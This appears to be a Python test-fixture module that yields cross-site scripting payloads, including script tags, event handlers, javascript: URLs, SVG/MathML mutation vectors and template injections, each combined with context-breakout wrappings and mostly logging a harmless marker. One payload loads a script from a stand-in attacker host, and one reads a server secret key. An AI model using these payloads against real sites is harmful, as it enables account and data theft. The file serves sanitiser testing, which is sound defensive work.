"""Markup that would run a script, if it came through as markup: every way we know, in every wrapping."""

from __future__ import annotations

from collections.abc import Iterator

MARK = "SCRIPT-RAN"
_RUN = f"console.log('{MARK}')"

_MARKUP = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x0c>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=`x` onerror=`{_RUN}`>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{_RUN}'/>#x\"></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}>x</math>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{_RUN} form=x>x</button>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    f"<link rel=stylesheet href=javascript:{_RUN}>",
    f"<base href=javascript:{_RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>",
    f'<div style="background:url(javascript:{_RUN})">x</div>',
    f"<div hx-on:load='{_RUN}' hx-trigger=load hx-get=/>x</div>",
    f"<div hx-vals='js:{{x:{_RUN}}}'>x</div>",
    f"<x onclick={_RUN} autofocus tabindex=1 onfocus={_RUN}>x</x>",
    f'{{{{constructor.constructor("{_RUN}")()}}}}',
    "{% include 'base.html' %}{{ settings.SECRET_KEY }}",
    f"javascript:{_RUN}",
    f"javascript:x//http://evil.example/%0a{_RUN}",
]
# What must be left before markup begins: an attribute, a text area, a title, a comment, a script.
_WRAPPINGS = ["{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--><!--x-->{}", "</script>{}", "\u2028{}", "]]>{}"]


def payloads() -> Iterator[str]:
    """Yield every piece of markup in every wrapping."""
    for wrapping in _WRAPPINGS:
        for markup in _MARKUP:
            yield wrapping.format(markup) if "{}" in wrapping else markup


ALL = tuple(dict.fromkeys(payloads()))
